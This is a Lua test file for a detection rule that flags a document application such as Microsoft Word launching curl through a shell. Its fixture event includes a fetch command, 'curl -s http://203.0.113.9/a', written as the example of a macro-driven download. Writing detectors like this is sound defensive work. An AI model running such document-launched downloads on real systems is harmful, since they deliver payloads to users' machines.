local t = require "lunette.test"

local curl = { action = "exec", client_ip = "192.168.1.20", host = "192.168.1.20", program = "curl", path = "/usr/bin/curl", pid = 812, parent = "sh",
    ancestors = { "sh", "Microsoft Word", "launchd" }, arguments = { "curl", "-s", "http://203.0.113.9/a" }, source = "eslogger" }

local function with(changes)
    local event = {}
    for key, value in pairs(curl) do event[key] = value end
    for key, value in pairs(changes) do event[key] = value end
    return event
end

t.case("a macro's curl", function(c)
    c:event("process", curl)
    c:expect { title = "A document runs a fetching tool", who = "192.168.1.20", where = "/usr/bin/curl",
        why = "Microsoft Word ran curl: curl -s http://203.0.113.9/a" }
end)

t.case("curl in a terminal is nobody's business", function(c)
    c:event("process", with { ancestors = { "zsh", "login", "Terminal", "launchd" } })
    c:expect_none()
end)

t.case("nor is what else a document's program starts, nor its end", function(c)
    c:event("process", with { program = "mdimport", path = "/usr/bin/mdimport" })
    c:event("process", with { action = "exit" })
    c:expect_none()
end)
